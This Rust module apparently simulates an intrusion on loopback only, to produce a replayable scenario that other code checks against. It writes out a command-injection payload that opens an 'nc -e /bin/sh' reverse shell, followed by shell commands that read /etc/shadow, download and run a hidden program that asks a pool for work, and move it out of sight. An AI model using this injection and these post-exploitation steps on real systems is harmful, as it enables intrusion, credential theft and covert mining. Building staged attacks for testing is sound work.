//! The outside of the story: a visitor who finds the hole. Everything it listens on and talks to is loopback.

use crate::container::PROGRAM;
use anyhow::{Context as _, Result, bail};
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

/// How long each step may take.
const STEP: Duration = Duration::from_secs(10);
/// Time between two steps, as a person typing would leave; it also makes the replay worth watching.
const PAUSE: Duration = Duration::from_millis(300);

/// Where the intruder's own servers listen.
pub struct Ports {
    /// The shell calls back here.
    pub shell: u16,
    /// The dropped program is downloaded from here.
    pub download: u16,
    /// The dropped program asks for work here.
    pub pool: u16,
}

/// What was typed into the shell, for the story to be checked against.
pub struct Intrusion {
    /// The servers.
    pub ports: Ports,
}

/// Visits, breaks in, and does what intruders do.
pub fn intrude(web_port: u16) -> Result<Intrusion> {
    let listen = || TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).context("cannot listen on loopback");
    let (shell, download, pool) = (listen()?, listen()?, listen()?);
    let ports = Ports {
        shell: shell.local_addr()?.port(),
        download: download.local_addr()?.port(),
        pool: pool.local_addr()?.port(),
    };

    for _ in 0..2 {
        get(web_port, "/")?;
        thread::sleep(PAUSE);
    }
    serve_once(download, PROGRAM);
    serve_once(pool, b"{\"job\":null}\n");
    get(web_port, &format!("/ping?host=localhost;nc%20127.0.0.1%20{}%20-e%20/bin/sh", ports.shell))?;

    let mut session = Session::accept(&shell)?;
    for line in [
        "id".to_owned(),
        "cat /etc/shadow".to_owned(),
        format!("wget 127.0.0.1 {} /tmp/.update", ports.download),
        "chmod 755 /tmp/.update".to_owned(),
        format!("/tmp/.update 127.0.0.1 {}", ports.pool),
        "mv /tmp/.update /var/tmp/.cache".to_owned(),
    ] {
        session.say(&line)?;
        thread::sleep(PAUSE);
    }
    session.stream.write_all(b"exit\n")?;
    Ok(Intrusion { ports })
}

/// The intruder's end of the shell.
struct Session {
    stream: TcpStream,
    answers: BufReader<TcpStream>,
}

impl Session {
    fn accept(listener: &TcpListener) -> Result<Self> {
        listener.set_nonblocking(true)?;
        let deadline = Instant::now() + STEP;
        loop {
            match listener.accept() {
                Ok((stream, _)) => {
                    stream.set_nonblocking(false)?;
                    stream.set_read_timeout(Some(STEP))?;
                    return Ok(Self { answers: BufReader::new(stream.try_clone()?), stream });
                }
                Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {
                    if Instant::now() > deadline {
                        bail!("the shell did not call back");
                    }
                    thread::sleep(Duration::from_millis(10));
                }
                Err(error) => return Err(error.into()),
            }
        }
    }

    /// Types a line and waits for the prompt that follows its output.
    fn say(&mut self, line: &str) -> Result<()> {
        self.stream.write_all(format!("{line}\n").as_bytes())?;
        loop {
            let mut answer = String::new();
            if self.answers.read_line(&mut answer).with_context(|| format!("no answer to {line:?}"))? == 0 {
                bail!("the shell ended at {line:?}");
            }
            if answer == "$\n" {
                return Ok(());
            }
        }
    }
}

fn get(port: u16, path: &str) -> Result<()> {
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).context("cannot visit the web server")?;
    stream.set_read_timeout(Some(STEP))?;
    write!(stream, "GET {path} HTTP/1.0\r\n\r\n")?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    Ok(())
}

/// Gives `body` to the first caller, after its first line.
fn serve_once(listener: TcpListener, body: &'static [u8]) {
    thread::spawn(move || -> std::io::Result<()> {
        let (mut stream, _) = listener.accept()?;
        stream.set_read_timeout(Some(STEP))?;
        let mut first = String::new();
        BufReader::new(stream.try_clone()?).read_line(&mut first)?;
        stream.write_all(body)
    });
}
